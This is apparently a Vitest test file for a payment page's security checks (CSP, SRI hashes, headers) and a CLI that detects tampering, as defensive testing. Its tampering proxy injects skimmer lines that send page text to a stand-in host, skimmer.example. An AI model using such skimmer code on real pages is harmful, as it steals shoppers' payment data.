import { readFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CliContext } from '../../src/cli/cli.js';
import { checkPaymentPageCommand, DEFAULT_INVENTORY, parseInventory } from '../../src/cli/commands/check-payment-page.js';
import { paymentPageScripts, sriHash } from '../../src/http/payment-page.js';
import { createPaytrClient } from '../../src/modules/billing/index.js';
import { startTestApp, type TestApp } from '../helpers/test-app.js';

function cli(app: TestApp) {
  const lines: string[] = [];
  const ctx: CliContext = {
    config: () => app.config,
    out: (line) => lines.push(line),
    operator: { userId: '00000000-0000-7000-8000-000000000000', tokenId: 'cli', isInstanceAdmin: true, isOperator: true },
    services: async () => app.app.services,
    database: async () => app.database,
  };
  const run = async (values: Record<string, string>) => (await checkPaymentPageCommand.run(values, ctx)) ?? 0;
  return { run, lines };
}

async function sandboxPage(app: TestApp, oid: string): Promise<string> {
  const { iframeUrl } = await createPaytrClient(app.config.paytr).getToken({
    merchantOid: oid,
    email: 'buyer@example.com',
    amount: 29900,
    currency: 'TRY',
    userIp: '203.0.113.7',
    userName: 'Buyer',
    userAddress: 'Somewhere',
    userPhone: '5550000000',
    basket: [{ name: 'Team plan', amount: 29900, quantity: 1 }],
    okUrl: `${app.url}/billing/return/ok`,
    failUrl: `${app.url}/billing/return/fail`,
  });
  return iframeUrl;
}

/** A copy of the live service that changes what it serves: a tampered script, an injected inline script, a dropped header. */
async function tamperingProxy(
  target: string,
  tamper: { script?: boolean; inline?: boolean; dropHeader?: string },
): Promise<{ url: string; close(): Promise<void> }> {
  const server: Server = createServer(async (req, res) => {
    const upstream = await fetch(target + req.url, { redirect: 'manual' });
    let body = Buffer.from(await upstream.arrayBuffer());
    if (tamper.script && req.url?.endsWith('.js'))
      body = Buffer.concat([body, Buffer.from('\nfetch("https://skimmer.example/c?" + document.body.innerText);\n')]);
    if (tamper.inline && /text\/html/.test(upstream.headers.get('content-type') ?? '')) {
      body = Buffer.from(body.toString('utf8').replace('</body>', '<script>new Image().src="https://skimmer.example/"</script></body>'));
    }
    const headers: Record<string, string> = {};
    upstream.headers.forEach((value, name) => {
      if (!['content-length', 'transfer-encoding', 'connection', 'keep-alive'].includes(name) && name !== tamper.dropHeader) headers[name] = value;
    });
    res.writeHead(upstream.status, headers).end(body);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as { port: number };
  return { url: `http://127.0.0.1:${port}`, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

describe('payment pages (section 22)', () => {
  let app: TestApp;
  beforeAll(async () => {
    app = await startTestApp({ paymentPageFrameAncestors: ['https://shop.example.com'] });
  });
  afterAll(async () => app?.close());

  it("the sandbox's checkout page loads only the service's own scripts, each with an SRI hash that script-src is limited to", async () => {
    const url = await sandboxPage(app, `PP${Date.now()}`);
    const res = await app.api.get(new URL(url).pathname);
    expect(res.status).toBe(200);
    const tags = [...res.text.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/g)];
    expect(tags.length).toBe(paymentPageScripts().length);
    const hashes: string[] = [];
    for (const [, attributes, inline] of tags) {
      expect(inline).toBe('');
      const src = /src="([^"]+)"/.exec(attributes!)![1]!;
      const integrity = /integrity="([^"]+)"/.exec(attributes!)![1]!;
      expect(src.startsWith('/payment-page/assets/')).toBe(true);
      const served = await fetch(app.url + src);
      expect(sriHash(Buffer.from(await served.arrayBuffer()))).toBe(integrity);
      hashes.push(`'${integrity}'`);
    }
    const csp = res.headers.get('content-security-policy')!;
    expect(csp).toContain(`script-src ${hashes.join(' ')};`);
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain("form-action 'self'");
    expect(csp).toContain("frame-ancestors 'self' https://shop.example.com");
    expect(csp).not.toMatch(/unsafe-eval|script-src[^;]*(unsafe-inline|'self')/);
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin');
    // X-Frame-Options cannot name shop.example.com: frame-ancestors says it all.
    expect(res.headers.get('x-frame-options')).toBeNull();
  });

  it('an unknown or used token is 404 (409 once completed) with the same headers; so are the return pages', async () => {
    const url = await sandboxPage(app, `PU${Date.now()}`);
    const path = new URL(url).pathname;
    const live = await app.api.get(path);
    const pay = await app.api.request('POST', `${path}/pay`, { raw: new URLSearchParams() });
    // (fetch follows the 303 to the return page)
    expect(pay.status).toBe(200);
    const used = await app.api.get(path);
    const unknown = await app.api.get('/sandbox/paytr/odeme/guvenli/no-such-token');
    expect([used.status, unknown.status]).toEqual([409, 404]);
    for (const res of [pay, used, unknown, await app.api.get('/billing/return/ok'), await app.api.get('/billing/return/fail')]) {
      for (const name of ['content-security-policy', 'cache-control', 'referrer-policy', 'x-content-type-options']) {
        expect(res.headers.get(name), name).toBe(live.headers.get(name));
      }
    }
  });

  it('the inventory in docs/payment-page.md lists exactly the scripts served, with their hashes', () => {
    const inventory = parseInventory(readFileSync(DEFAULT_INVENTORY, 'utf8'));
    expect(inventory.map((s) => [s.file, s.sha384])).toEqual(paymentPageScripts().map((s) => [s.src, s.integrity]));
  });

  it('check-payment-page: exit 0 on the live page as documented', async () => {
    const { run, lines } = cli(app);
    expect(await run({})).toBe(0);
    expect(lines).toEqual([expect.stringMatching(/^ok .*\/guvenli\/<token>: headers and scripts match/), expect.stringMatching(/^ok .*\/billing\/return\/ok/)]);
  });

  it('check-payment-page catches a changed script, an injected inline script and a missing header (exit 1, each difference printed)', async () => {
    const path = new URL(await sandboxPage(app, `PT${Date.now()}`)).pathname;
    const cases = [
      { tamper: { script: true }, expected: /script \/payment-page\/assets\/submit-once\.js: served content hashes to sha384-\S+, inventory sha384-/ },
      { tamper: { inline: true }, expected: /inline script not in the inventory/ },
      { tamper: { dropHeader: 'content-security-policy' }, expected: /header content-security-policy: missing/ },
    ];
    for (const { tamper, expected } of cases) {
      const proxy = await tamperingProxy(app.url, tamper);
      try {
        const { run, lines } = cli(app);
        expect(await run({ url: proxy.url + path })).toBe(1);
        expect(lines[0]).toMatch(/^DIFFERENT /);
        expect(lines.join('\n')).toMatch(expected);
      } finally {
        await proxy.close();
      }
    }
    // An inventory that no longer matches the served file (the file changed on the server) is caught too.
    const { run, lines } = cli(app);
    const stale = `/tmp/stale-inventory-${process.pid}.md`;
    const { writeFileSync } = await import('node:fs');
    writeFileSync(stale, readFileSync(DEFAULT_INVENTORY, 'utf8').replace(/`sha384-[^`]+`/, '`sha384-AAAA`'));
    expect(await run({ url: app.url + path, inventory: stale })).toBe(1);
    expect(lines.join('\n')).toMatch(/script-src: expected "'sha384-AAAA'"/);
    expect(lines.join('\n')).toMatch(/integrity attribute sha384-\S+, inventory sha384-AAAA/);
  });
});
